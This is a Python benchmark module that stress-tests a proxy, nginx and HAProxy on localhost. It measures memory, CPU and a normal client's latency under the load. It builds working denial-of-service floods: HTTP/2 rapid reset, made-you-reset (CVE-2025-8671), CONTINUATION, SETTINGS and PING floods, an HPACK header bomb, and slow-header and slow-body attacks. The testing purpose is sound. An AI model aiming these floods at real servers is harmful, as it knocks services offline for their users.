"""Floods: what each system holds while it is attacked, and how long a good caller waits beside it.

One flood at a time, from this machine to 127.0.0.1, for a few seconds; each system gets the same one.
"""
import multiprocessing
import os
import socket
import statistics
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def literal(name, value, indexed=False):
    first = b"\x40" if indexed else b"\x00"
    return first + integer(len(name), 7) + name + integer(len(value), 7) + value


def head(token, method=b"\x82"):
    """`GET /x` of localhost with a token."""
    path = b"\x04" + integer(2, 7) + b"/x"
    authority = b"\x01" + integer(9, 7) + b"localhost"
    return method + b"\x86" + path + authority + literal(b"authorization", b"Bearer " + token.encode())


class Line:
    """A connection that is written to until it is closed, and read from in the background or not at all."""

    def __init__(self, port, hello=b"", reads=True):
        self.socket = socket.create_connection(("127.0.0.1", port), 5)
        self.socket.settimeout(2)
        self.alive = True
        if hello:
            self.send(hello)
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        while self.alive:
            try:
                if not self.socket.recv(1 << 16):
                    self.alive = False
            except TimeoutError:
                continue
            except OSError:
                self.alive = False

    def send(self, piece):
        try:
            self.socket.sendall(piece)
        except TimeoutError:
            pass
        except OSError:
            self.alive = False
        return self.alive


def hello():
    return PREFACE + frame(SETTINGS, 0, 0)


def repeat(port, until, token, pieces, reads=True, opening=hello, connections=4):
    """Sends `pieces(connection's next stream)` over and over, and connects anew when it is closed."""
    def one():
        while time.monotonic() < until:
            try:
                line = Line(port, opening(), reads)
            except OSError:
                time.sleep(0.05)
                continue
            stream = 1
            while line.alive and time.monotonic() < until:
                piece, stream = pieces(stream, token)
                line.send(piece)
            line.socket.close()
            line.alive = False
    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def rapid_reset(stream, token):
    cancel = struct.pack(">I", 8)
    block = head(token)
    pieces = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, number, block) + frame(RST_STREAM, 0, number, cancel)
                      for number in range(stream, stream + 100, 2))
    return pieces, stream + 100


def made_you_reset(stream, token):
    """A window that overflows makes the server reset what it was asked (CVE-2025-8671)."""
    block, overflow = head(token), struct.pack(">I", 0x7FFFFFFF)
    pieces = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, number, block)
                      + frame(WINDOW_UPDATE, 0, number, overflow) for number in range(stream, stream + 100, 2))
    return pieces, stream + 100


def continuation(stream, token):
    opening = frame(HEADERS, 0, stream, head(token)) if stream == 1 else b""
    return opening + frame(CONTINUATION, 0, 1, literal(b"x-%d" % stream, b"y" * 8000)) * 8, stream + 2


def settings(stream, token):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200, stream


def pings(stream, token):
    return frame(PING, 0, 0, b"12345678") * 200, stream


def empty_data(stream, token):
    opening = frame(HEADERS, END_HEADERS, 1, head(token, b"\x83")) if stream == 1 else b""
    return opening + frame(DATA, 0, 1) * 200, stream + 2


def header_bomb(stream, token):
    """One large field put into the table once and named thousands of times (RFC 7541 section 7.3)."""
    large = literal(b"x-bomb", b"z" * 3500, indexed=True) if stream == 1 else b""
    block = head(token) + large + b"\xbe" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block), stream + 2


def many(port, until, count, first, then=b"", every=1.0):
    """Many connections that say `first`, and then `then` now and again."""
    lines = []
    while time.monotonic() < until:
        while len(lines) < count and time.monotonic() < until:
            try:
                lines.append(Line(port, first, reads=False))
            except OSError:
                break
        if then:
            for line in lines:
                line.send(then)
        lines = [line for line in lines if line.alive]
        time.sleep(min(every, max(0, until - time.monotonic())))
    for line in lines:
        line.socket.close()


REQUEST = "GET /x HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {}\r\n"

# By name: whether it is HTTP/2, and what is done until a time.
FLOODS = {
    "2,000 silent connections": (False, lambda port, until, token: many(port, until, 2000, b"")),
    "1,000 heads a byte at a time": (False, lambda port, until, token: many(port, until, 1000, b"GET /x HTTP/1.1\r\nX: ", b"a", 0.5)),
    "500 bodies a byte at a time": (False, lambda port, until, token: many(
        port, until, 500, (REQUEST.format(token) + "Content-Length: 100000\r\n\r\n").encode().replace(b"GET", b"POST", 1), b"a", 0.5)),
    "heads without an end": (False, lambda port, until, token: repeat(
        port, until, token, lambda stream, token: (b"X-%d: " % stream + b"y" * 4000 + b"\r\n", stream + 1), opening=lambda: b"GET /x HTTP/1.1\r\nHost: localhost\r\n")),
    "tokens of 30 KB": (False, lambda port, until, token: repeat(
        port, until, token, lambda stream, _: (REQUEST.format("e" * 30000).encode() + b"\r\n", stream), opening=lambda: b"")),
    "pipelining, nothing read": (False, lambda port, until, token: repeat(
        port, until, token, lambda stream, token: ((REQUEST.format(token).encode() + b"\r\n") * 20, stream), reads=False, opening=lambda: b"")),
    "rapid reset": (True, lambda port, until, token: repeat(port, until, token, rapid_reset)),
    "made-you-reset": (True, lambda port, until, token: repeat(port, until, token, made_you_reset)),
    "CONTINUATION": (True, lambda port, until, token: repeat(port, until, token, continuation)),
    "SETTINGS": (True, lambda port, until, token: repeat(port, until, token, settings)),
    "SETTINGS, nothing read": (True, lambda port, until, token: repeat(port, until, token, settings, reads=False)),
    "PING": (True, lambda port, until, token: repeat(port, until, token, pings)),
    "empty DATA": (True, lambda port, until, token: repeat(port, until, token, empty_data)),
    "header bomb": (True, lambda port, until, token: repeat(port, until, token, header_bomb)),
    "no window for the answers": (True, lambda port, until, token: repeat(
        port, until, token, lambda stream, token: (frame(HEADERS, END_STREAM | END_HEADERS, stream, head(token)) if stream < 200 else b"", stream + 2),
        opening=lambda: PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))),
}


def attack(name, port, seconds, token, core):
    os.sched_setaffinity(0, {core})
    FLOODS[name][1](port, time.monotonic() + seconds, token)


def read_http1(connection):
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = connection.recv(65536)
        if not piece:
            raise OSError("closed")
        answer += piece
    fields, _, body = answer.partition(b"\r\n\r\n")
    length = next(int(line.split(b":")[1]) for line in fields.split(b"\r\n") if line.lower().startswith(b"content-length"))
    while len(body) < length:
        body += connection.recv(65536)
    return fields.startswith(b"HTTP/1.1 200")


def read_http2(connection, stream, held):
    """True once the stream ended; `held` are bytes read before."""
    fine = False
    while True:
        while len(held) >= 9 and len(held) >= 9 + int.from_bytes(held[:3]):
            length, kind, flags, of = int.from_bytes(held[:3]), held[3], held[4], int.from_bytes(held[5:9])
            payload = bytes(held[9:9 + length])
            del held[:9 + length]
            if kind == SETTINGS and not flags & ACK:
                connection.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                connection.sendall(frame(PING, ACK, 0, payload))
            elif kind == 7 or (kind == RST_STREAM and of == stream):
                raise OSError("reset")
            elif kind == HEADERS and of == stream:
                fine = payload[:1] == b"\x88"
            if kind == DATA and length:
                connection.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", length)))
            if of == stream and kind in (DATA, HEADERS) and flags & END_STREAM:
                return fine
        piece = connection.recv(65536)
        if not piece:
            raise OSError("closed")
        held += piece


def good_caller(port, is_http2, token, seconds):
    """One request after the other, fifty a second: what each took, in milliseconds, and how many failed."""
    took, failed, connection, stream, held = [], 0, None, 1, bytearray()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            if connection is None:
                connection, stream, held = socket.create_connection(("127.0.0.1", port), 5), 1, bytearray()
                connection.settimeout(5)
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                if is_http2:
                    connection.sendall(hello())
            if is_http2:
                connection.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, head(token)))
                fine = read_http2(connection, stream, held)
                stream += 2
            else:
                connection.sendall((REQUEST.format(token) + "\r\n").encode())
                fine = read_http1(connection)
            failed += not fine
            took.append((time.monotonic() - began) * 1000)
        except OSError:
            failed += 1
            if connection:
                connection.close()
            connection = None
        time.sleep(max(0, began + 0.02 - time.monotonic()))
    if connection:
        connection.close()
    return took, failed


def floods(rig, report, options):
    seconds = max(3, round(options.seconds * 2))
    other = min(os.sched_getaffinity(0) - {options.core}, default=options.core)
    rows = []
    wanted = options.systems.split(",") if options.systems else None
    for name, (is_http2, _) in FLOODS.items():
        makers = [rig.portcullis, rig.nginx_http2 if is_http2 else rig.nginx_plain,
                  lambda: rig.haproxy(http2=is_http2)]
        for make in makers:
            system = make()
            if wanted and system.name not in wanted:
                continue
            system.start()
            try:
                quiet, _ = good_caller(system.port, is_http2, rig.tokens[0], 1)
                idle, spent = system.resident(), system.cpu()
                attacker = multiprocessing.Process(
                    target=attack, args=(name, system.port, seconds, rig.tokens[1], other), daemon=True)
                attacker.start()
                peak, done = [idle], threading.Event()

                def watch():
                    while not done.wait(0.1):
                        peak.append(system.resident())
                watching = threading.Thread(target=watch)
                watching.start()
                took, failed = good_caller(system.port, is_http2, rig.tokens[0], seconds)
                done.set()
                watching.join()
                attacker.terminate()
                attacker.join()
                ordered = sorted(took) or [float("nan")]
                rows.append([name, system.name, f"{statistics.median(quiet):.1f}", f"{statistics.median(ordered):.1f}",
                             f"{ordered[int(len(ordered) * 0.99)]:.1f}", f"{failed} of {len(took) + failed}",
                             f"{idle / 1024:.1f}", f"{max(peak) / 1024:.1f}", f"{(system.cpu() - spent) / seconds * 100:.0f}"])
            finally:
                system.stop()
    report.table("Floods", ["flood", "system", "p50 before ms", "p50 ms", "p99 ms", "failed", "MiB before", "MiB most", "CPU %"],
                 rows, f"A good caller, fifty requests a second on one connection, beside each flood of {seconds} s from the "
                       "other core. HAProxy and nginx do not authenticate.")
